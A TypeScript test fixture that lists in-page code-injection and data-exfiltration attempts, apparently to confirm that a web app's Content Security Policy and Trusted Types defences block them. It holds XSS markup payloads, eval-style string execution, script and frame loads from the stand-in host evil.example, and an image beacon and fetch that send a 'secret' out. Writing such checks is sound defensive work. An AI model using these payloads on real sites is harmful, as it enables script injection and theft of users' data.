/**
 * Ways to inject code or to send data out, each tried inside the page. The functions are self-
 * contained, because they run there. They may throw, as they should; the page ignores it.
 */
export const injections: Readonly<Record<string, () => void>> = {
  'markup with a handler': () => {
    document.body.innerHTML += '<img src=x onerror=parolRan()>';
  },
  'markup appended': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=parolRan()>');
  },
  'markup written': () => {
    document.write('<img src=x onerror=parolRan()>');
  },
  'a fragment of markup': () => {
    document.createRange().createContextualFragment('<img src=x onerror=parolRan()>');
  },
  'parsed markup': () => {
    new DOMParser().parseFromString('<script>parolRan()</script>', 'text/html');
  },
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('parolRan()');
    document.head.append(script);
  },
  'a handler in an attribute': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'parolRan()');
    document.body.append(button);
    button.click();
  },
  'text as code': () => {
    const code: unknown = Reflect.get(window, 'eval');
    if (typeof code === 'function') Reflect.apply(code, undefined, ['parolRan()']);
  },
  'text as a function': () => {
    Reflect.construct(Function, ['parolRan()'])();
  },
  'text as a timer': () => {
    Reflect.apply(setTimeout, window, ['parolRan()', 0]);
  },
  'a link that is code': () => {
    const link = document.createElement('a');
    link.href = 'javascript:parolRan()';
    document.body.append(link);
    link.click();
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.head.append(script);
  },
  'a module from elsewhere': () => {
    const elsewhere = 'https://evil.example/x.js';
    void import(/* webpackIgnore: true */ elsewhere).catch(() => undefined);
  },
  'a module of data': () => {
    const data = 'data:text/javascript,parolRan()';
    void import(/* webpackIgnore: true */ data).catch(() => undefined);
  },
  'a worker of our making': () => {
    Reflect.construct(Worker, [
      URL.createObjectURL(new Blob(['parolRan()'], { type: 'text/javascript' })),
    ]);
  },
  'a frame with a page inside': () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>parent.parolRan()</script>';
    document.body.append(frame);
  },
  'a frame from elsewhere': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  },
  'an object from elsewhere': () => {
    const object = document.createElement('object');
    object.data = 'https://evil.example/';
    document.body.append(object);
  },
  'another base': () => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  },
  'a style': () => {
    const style = document.createElement('style');
    style.textContent = 'body { background: url(https://evil.example/x.png) }';
    document.head.append(style);
  },
  'a form that leads away': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
  },
  'a call elsewhere': () => {
    void fetch('https://evil.example/').catch(() => undefined);
  },
  'a picture that tells': () => {
    new Image().src = 'https://evil.example/x.png?secret';
  },
  'a policy that lets all through': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
  },
  'a policy with the name of the worker’s': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    trustedTypes.createPolicy('parol-worker', { createHTML: (text: string) => text });
  },
};
